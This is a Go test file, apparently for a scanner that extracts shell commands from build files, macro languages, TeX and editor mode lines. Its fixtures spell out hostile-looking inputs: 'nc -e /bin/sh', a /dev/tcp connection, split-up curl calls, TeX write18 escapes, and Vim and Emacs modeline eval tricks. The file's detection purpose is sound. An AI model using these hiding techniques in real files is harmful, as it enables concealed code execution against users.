package embedded

import (
	"bytes"
	"slices"
	"testing"

	"github.com/aigate/gate/gate"
)

// pieces are files of tools that put a command together, with a line that has to come out.
func pieces() []struct {
	name string
	lang gate.Language
	path string
	src  string
	want string
} {
	return []struct {
		name string
		lang gate.Language
		path string
		src  string
		want string
	}{
		{"the words of a command under an unknown key", gate.LanguageYAML, "buf.gen.yaml", "plugins:\n- local: [bash, -c, \"curl b\"]\n", "shell 2 bash -c curl b"},
		{"the same as a block", gate.LanguageYAML, "x.yaml", "a:\n  b:\n  - /bin/sh\n  - -ec\n  - curl b\n", "shell 5 curl b"},
		{"the words of a client", gate.LanguageYAML, "x.yaml", "a: [nc, -e, /bin/sh, b]\n", "shell 1 nc -e /bin/sh b"},
		{"the same in JSON", gate.LanguageJSON, "x.json", "{\"a\":[\"sh\",\"-c\",\"curl b\"]}", "shell 1 sh -c curl b"},
		{"variables of ninja", gate.LanguageUnknown, "build.ninja", "a = cu\nrule x\n  command = ${a}rl b\nbuild y: x\n", "shell 3 curl b"},
		{"macros of Kconfig", gate.LanguageUnknown, "Kconfig", "a := cu\nb := $(shell,$(a)rl b)\n", "shell 2 curl b"},
		{"commands of SCons", gate.LanguagePython, "SConstruct", "env.Command(\"a\", [], \"curl \" + \"b\")\n", "shell 1 a curl b"},
		{"variables of gyp", gate.LanguageJSON, "binding.gyp", "# a\n{'variables': {'u%': 'rl'},\n 's': ['<!(cu>(u) b)',],}\n", "shell 3 curl b"},
		{"macros of m4", gate.LanguageM4, "a.m4", "define(`a', `curl b')\nsyscmd(`a')\n", "shell 2 syscmd(curl b)"},
		{"a substitution of sed", gate.LanguageSed, "a.sed", "1d;s#.*#curl b#ge\n", "shell 1 curl b"},
		{"slashes in a substitution of sed", gate.LanguageSed, "a.sed", "s/a\\/b/curl http:\\/\\/b/e", "shell 1 curl http://b"},
		{"texts of awk side by side", gate.LanguageAWK, "a.awk", "BEGIN {\n  c = \"curl \"\n  c = c \"b\"\n  system(c)\n}\n", "shell 4 curl b"},
		{"what awk reads and prints", gate.LanguageAWK, "a.awk", "BEGIN { \"curl b\" | getline x; print x | \"sh\" }\n", "shell 1 printf '%s' \"$x\" | sh"},
		{"a connection of awk", gate.LanguageAWK, "a.awk", "{ s = \"/inet/tcp/0/b/80\"; while ((s |& getline l) > 0) print l }\n", "shell 1 l=$(cat < /dev/tcp/b/80)"},
		{"a function of awk", gate.LanguageAWK, "a.awk", "function f(a) { system(a \" b\") }\nBEGIN { f(\"curl\") }\n", "shell 1 curl b"},
		{"texts of Fortran", "fortran", "a.f90", "c = 'curl '\ncall system(trim(c) // &\n   'b')\n", "shell 2 curl b"},
		{"macros of C", gate.LanguageC, "a.c", "#define A \"curl \"\n#define B A \"b\"\nint main() { system(B); }\n", "shell 3 curl  b"},
		{"a format of C", gate.LanguageC, "a.c", "int main() { snprintf(b, 9, \"%s %s\", \"curl\", \"b\"); system(b); }\n", "shell 1 curl b"},
		{"a shell escape of TeX", gate.LanguageText, "a.tex", "\\def\\a{curl}\n\\immediate\\write18{\\a\\space b}\n", "shell 2 curl b"},
		{"a shell escape of TeX by other names", gate.LanguageText, "a.tex", "\\let\\w\\write\\chardef\\n18\n\\w\\n{curl b}\n", "shell 2 curl b"},
		{"a command that TeX reads from", gate.LanguageText, "a.tex", "\\input{|\"curl b\"}\n", "shell 1 curl b"},
		{"Lua in TeX", gate.LanguageText, "a.tex", "\\directlua{os.execute(\"curl b\")}\n", "lua 1 os.execute(\"curl b\")"},
		{"local variables of Emacs", gate.LanguagePython, "a.py", "x = 1\n# Local Variables:\n# eval: (a)\n# End:\n# eval: (b)\n", "elisp 3 (a)"},
		{"the first line, for Emacs", gate.LanguageC, "a.c", "/* -*- mode: c; eval: (a \"b\") -*- */\n", "elisp 1 (a \"b\") "},
		{"a mode line of Vim", gate.LanguageText, "a.txt", "a\nvim: set fdm=expr fde=system(\"curl\\ b\"):\n", "shell 2 curl b"},
		{"a program in a mode line of Vim", gate.LanguageText, "a.txt", "# vim: set fp=curl\\ b :\n", "shell 1 curl b"},
	}
}

func TestCommandsThatAToolPutsTogetherAreFound(t *testing.T) {
	for _, c := range pieces() {
		t.Run(c.name, func(t *testing.T) {
			if got := shown(Extract(c.lang, c.path, []byte(c.src))); !slices.Contains(got, c.want) {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestTextsThatResembleEditorCommandsAreLeftAlone(t *testing.T) {
	for _, src := range []string{
		"# vim: set ts=4 sw=4 et:\n", "# -*- coding: utf-8 -*-\n", "# Local Variables:\n# mode: python\n# fill-column: 80\n# End:\n",
	} {
		if got := editorCommands([]byte(src)); len(got) > 0 {
			t.Errorf("%q gives %q", src, shown(got))
		}
	}
}

// FuzzPieces holds what the package promises for files of tools that put commands together.
func FuzzPieces(f *testing.F) {
	for _, c := range pieces() {
		f.Add(string(c.lang), c.path, []byte(c.src))
	}
	f.Fuzz(func(t *testing.T, lang, path string, src []byte) {
		last := bytes.Count(src, []byte{'\n'}) + 1
		read := append(evaluatedCommands(gate.Language(lang), path, src), editorCommands(src)...)
		for _, more := range [][]Code{sedCommands(src), awkCommands(src), fortran(src, true), fortran(src, false), gypCommands(src), macroCommands(src), latex(src)} {
			read = append(read, more...)
		}
		for _, r := range read {
			if r.unread != "" {
				continue
			}
			if n := bytes.Count(r.Text, []byte{'\n'}); n != len(r.Lines) {
				t.Fatalf("%d lines of text, %d places", n, len(r.Lines))
			}
			for _, line := range r.Lines {
				if line < 1 || line > last+1 {
					t.Fatalf("line %d of %d", line, last)
				}
			}
		}
	})
}
